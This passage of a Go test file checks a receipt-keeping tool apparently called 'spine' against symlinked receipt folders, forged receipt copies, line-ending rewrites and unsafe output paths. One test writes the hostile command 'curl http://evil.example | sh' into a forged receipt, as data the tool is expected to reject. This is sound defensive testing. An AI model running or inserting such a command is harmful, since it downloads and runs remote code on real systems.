	hidden := filepath.Join(dir, "hidden")
	if err := os.Rename(day, hidden); err != nil {
		t.Fatal(err)
	}
	rel, _ := filepath.Rel(filepath.Dir(day), hidden)
	if err := os.Symlink(rel, day); err != nil {
		t.Fatal(err)
	}
	out, _, code := spine(t, "--repo", dir, "verify")
	dayRel, _ := filepath.Rel(dir, day)
	if code != 1 || !strings.Contains(out, filepath.ToSlash(dayRel)+": a symbolic link where a folder of receipts belongs") || !strings.Contains(out, "the evidence block records this run") {
		t.Errorf("verify with a linked day folder: exit %d\n%s", code, out)
	}
	// plan holds the runs behind it, naming the link.
	if out, _, _ := spine(t, "--repo", dir, "plan"); !strings.Contains(out, "is behind a symbolic link, "+filepath.ToSlash(dayRel)+", which spine does not follow") {
		t.Errorf("plan with a linked day folder:\n%s", out)
	}
	// The receipts folder itself a link: plan and run refuse, as verify
	// and the site do, rather than count runs the others cannot read.
	outside := filepath.Join(t.TempDir(), "receipts")
	if err := os.Rename(filepath.Join(dir, "receipts"), outside); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "receipts")); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"plan", "run", "status", "verify"} {
		if _, errOut, code := spine(t, "--repo", dir, cmd); code == 0 || !strings.Contains(errOut, "receipts is a symbolic link") {
			t.Errorf("spine %s with receipts/ a link: exit %d\n%s", cmd, code, errOut)
		}
	}
}

// TestSiteKeepsTheReceiptInItsOwnFolder: a copy of a receipt, forged, in
// an earlier date folder does not take the run's page from the receipt
// in the folder its run key names; the page says another folder holds
// the key, and so does one built from the copy alone, which is not in
// its key's folder.
func TestSiteKeepsTheReceiptInItsOwnFolder(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	if out, errs, code := spine(t, "demo", "--dir", dir); code != 0 {
		t.Fatalf("demo: exit %d\n%s%s", code, out, errs)
	}
	runs, _ := filepath.Glob(filepath.Join(dir, "receipts", "*", "*", "*", "*rsync-media*"))
	if len(runs) == 0 {
		t.Fatal("no rsync-media run in the demo")
	}
	key := filepath.Base(runs[0])
	copyDir := filepath.Join(dir, "receipts", "2000", "01", "01", key)
	os.MkdirAll(copyDir, 0o755)
	for _, f := range []string{"output.log", "receipt.json"} {
		data, _ := os.ReadFile(filepath.Join(runs[0], f))
		if f == "receipt.json" {
			var rc map[string]any
			json.Unmarshal(data, &rc)
			rc["command"] = "curl http://evil.example | sh\n"
			sum := sha256.Sum256([]byte(rc["command"].(string)))
			rc["command_sha256"] = hex.EncodeToString(sum[:])
			data, _ = json.MarshalIndent(rc, "", "  ")
		}
		os.WriteFile(filepath.Join(copyDir, f), data, 0o644)
	}
	build := func() string {
		out := filepath.Join(t.TempDir(), "site")
		if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", out); code != 0 {
			t.Fatalf("site build: exit %d\n%s", code, errOut)
		}
		page, _ := os.ReadFile(filepath.Join(out, "receipts", key, "index.html"))
		return string(page)
	}
	page := build()
	if strings.Contains(page, "evil.example") || !strings.Contains(page, "another receipt of this run key is in receipts/2000/01/01/"+key) || strings.Contains(page, "<b>hash chain</b> ok") {
		t.Errorf("the run's page, with a forged copy in an earlier folder:\n%s", page)
	}
	os.RemoveAll(runs[0])
	page = build()
	if !strings.Contains(page, "the receipt is in receipts/2000/01/01/"+key+", not in") || strings.Contains(page, "<b>hash chain</b> ok") {
		t.Errorf("the run's page, built from the copy in another folder:\n%s", page)
	}
}

// TestVerifyNamesAutocrlf: in a clone whose checkout rewrote line endings
// (core.autocrlf true), verify's mismatches come with a note that says
// so, rather than reading as tampering only.
func TestVerifyNamesAutocrlf(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	if out, errs, code := spine(t, "demo", "--dir", dir); code != 0 {
		t.Fatalf("demo: exit %d\n%s%s", code, out, errs)
	}
	clone := filepath.Join(t.TempDir(), "clone")
	if out, err := exec.Command("git", "clone", "-q", "-c", "core.autocrlf=true", dir, clone).CombinedOutput(); err != nil {
		t.Fatalf("git clone: %v\n%s", err, out)
	}
	out, _, code := spine(t, "--repo", clone, "verify")
	if code != 1 || !strings.Contains(out, "note: core.autocrlf is true in this clone") {
		t.Errorf("verify in an autocrlf clone: exit %d\n%s", code, out)
	}
	if out, _, code := spine(t, "--repo", dir, "verify"); code != 0 || strings.Contains(out, "autocrlf") {
		t.Errorf("verify of the demo: exit %d\n%s", code, out)
	}
	// The note's advice, followed: a clone made without it verifies.
	plain := filepath.Join(t.TempDir(), "plain")
	if out, err := exec.Command("git", "clone", "-q", "-c", "core.autocrlf=false", clone, plain).CombinedOutput(); err != nil {
		t.Fatalf("git clone: %v\n%s", err, out)
	}
	if out, _, code := spine(t, "--repo", plain, "verify"); code != 0 {
		t.Errorf("verify after the note's advice: exit %d\n%s", code, out)
	}
}

// TestSiteOutNotWhereLoopsAre: --out may not be, nor hold, the folder of
// the loop documents (spine.yaml's site.out is refused so too): a build
// removes the files its manifest lists there.
func TestSiteOutNotWhereLoopsAre(t *testing.T) {
	dir := loopRepo(t, "---\nloop_id: LOOP-O\nstatus: active\n---\n\n# Loop Scope: LOOP-O\n")
	for _, out := range []string{"loops", "loops/site"} {
		_, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", filepath.Join(dir, out))
		if code == 0 || !strings.Contains(errOut, "and the loop documents' folder loops") {
			t.Errorf("site build --out %s: exit %d\n%s", out, code, errOut)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "loops", "index.html")); err == nil {
		t.Error("a page was written among the loop documents")
	}
	if _, errOut, code := spine(t, "--repo", dir, "site", "build", "--out", filepath.Join(dir, "public")); code != 0 {
		t.Errorf("site build --out public: exit %d\n%s", code, errOut)
	}
}

// TestRecordedVersion: a development build's receipts name its commit
// when it is known, so that they say which build wrote them.
func TestRecordedVersion(t *testing.T) {
	for _, tc := range []struct{ ver, commit, want string }{
		{"v1.2.3", "0123456789abcdef0123", "v1.2.3"},
		{"devel", "unknown", "devel"},
		{"devel", "0123456789abcdef0123", "devel+0123456789ab"},
		{"devel", "0123456789abcdef0123-dirty", "devel+0123456789ab-dirty"},
		{"devel", "abc", "devel+abc"},
	} {
		if got := recordedVersion(tc.ver, tc.commit); got != tc.want {
			t.Errorf("recordedVersion(%q, %q) = %q, want %q", tc.ver, tc.commit, got, tc.want)
		}
	}
}
